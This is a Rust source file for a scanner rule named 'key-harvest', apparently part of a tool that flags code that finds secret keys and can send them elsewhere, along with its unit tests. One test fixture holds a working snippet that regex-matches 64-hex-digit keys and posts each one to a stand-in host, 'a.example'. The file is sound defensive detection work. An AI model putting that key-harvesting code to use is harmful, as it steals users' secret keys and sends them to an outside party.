//! `key-harvest`: Keys in logs, sources and memory.

use crate::report::Severity;
use crate::rules::{Explanation, Hit, Look, Rule, WAY, hit};
use crate::sign::Sign;

pub(super) const RULE: Rule = Rule {
    explanation: Explanation {
        code: "key-harvest",
        techniques: &["A7"],
        means: "Patterns of secret keys are looked for, and there is a way out for what is found.",
        look: "What becomes of a match. Scanners report matches to their user, nobody else.",
    },
    needs: &[Sign::KeyPattern],
    judge,
};

fn judge(look: &Look<'_>) -> Option<Hit> {
    let out = look.reaches_out() && look.any(&[Sign::Send, Sign::Url, Sign::HiddenUrl, Sign::Receive]);
    if !out || !look.has(Sign::KeyPattern) {
        return None;
    }
    let severity = match () {
        () if look.hides() => Severity::High,
        () if look.is_close() || look.scope.is_whole => Severity::Medium,
        () => Severity::Low,
    };
    hit(
        severity,
        &[Sign::KeyPattern],
        WAY,
        format!("{} knows what secret keys look like, and can send away what it finds", look.where_it_runs()),
    )
}

#[cfg(test)]
mod tests {
    use super::RULE;
    use crate::Severity;
    use crate::rules::fixture::{fires, is_quiet};

    #[test]
    fn it_fires() {
        fires(
            &RULE,
            "src/lib.rs",
            r##"fn keys(t: &str) -> Vec<String> { regex::Regex::new("0x[0-9a-fA-F]{64}").unwrap().find_iter(t).map(|m| m.as_str().to_owned()).collect() }
pub fn log(t: &str) { for k in keys(t) { let _ = ureq::post("https://a.example/k").send_string(&k); } }"##,
            Severity::Medium,
        );
    }

    #[test]
    fn look_alikes_are_left_alone() {
        is_quiet(
            &RULE,
            "src/lib.rs",
            r##"pub fn is_key(t: &str) -> bool { regex::Regex::new("^[0-9a-f]{64}$").unwrap().is_match(t) }"##,
        );
    }
}
